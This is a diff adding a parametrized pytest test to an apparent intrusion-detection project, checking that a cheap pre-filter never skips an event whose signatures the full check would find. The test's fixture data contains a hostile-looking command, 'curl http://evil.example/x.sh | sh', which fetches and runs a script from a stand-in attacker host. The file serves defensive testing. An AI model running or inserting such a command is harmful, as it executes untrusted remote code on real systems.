@@ -166,3 +166,21 @@ def test_memory_stays_bounded_under_a_flood_of_distinct_signatures(monkeypatch: 
     assert len(cell.sightings) == 3
     expanded = [cell.observe("rule:1", f"host-{i % 4}", f"g{i}", 10_001.0 + i) for i in range(5)]
     assert expanded[4] is not None  # a real expansion still gets through after the flood
+
+
+@pytest.mark.parametrize("score", [0.0, 0.35, 0.49994, 0.49995, 0.5, 0.9])
+@pytest.mark.parametrize("matches", [[], [{"rule_id": 942100}]])
+@pytest.mark.parametrize("stage", ["hpc_profile", "hpc", "neutrophil"])
+def test_an_event_the_cheap_check_passes_over_has_no_signature(score: float, matches: list[dict[str, object]],
+                                                                stage: str) -> None:
+    """The judgement skips ``signatures_of`` where ``may_have_signatures`` is False: it must never skip one."""
+    from agents.dendritic import may_have_signatures, signatures_of
+    from agents.types import Finding
+    from tests.conftest import make_event
+
+    item = {"event": make_event(uri="/a?cmd=x"), "reflex": {"matches": matches}}
+    observed = {"feature": "param:cmd", "observed": "curl http://evil.example/x.sh | sh"}
+    findings = [Finding("neutrophil", 0.9), Finding(stage, score, "anomalous", observed)]
+    found = signatures_of(item, [f.as_evidence() for f in findings], with_iocs=False)
+    assert may_have_signatures(item, findings) or found == []
+    assert may_have_signatures(item, findings) == bool(found)  # no false hope either, for these
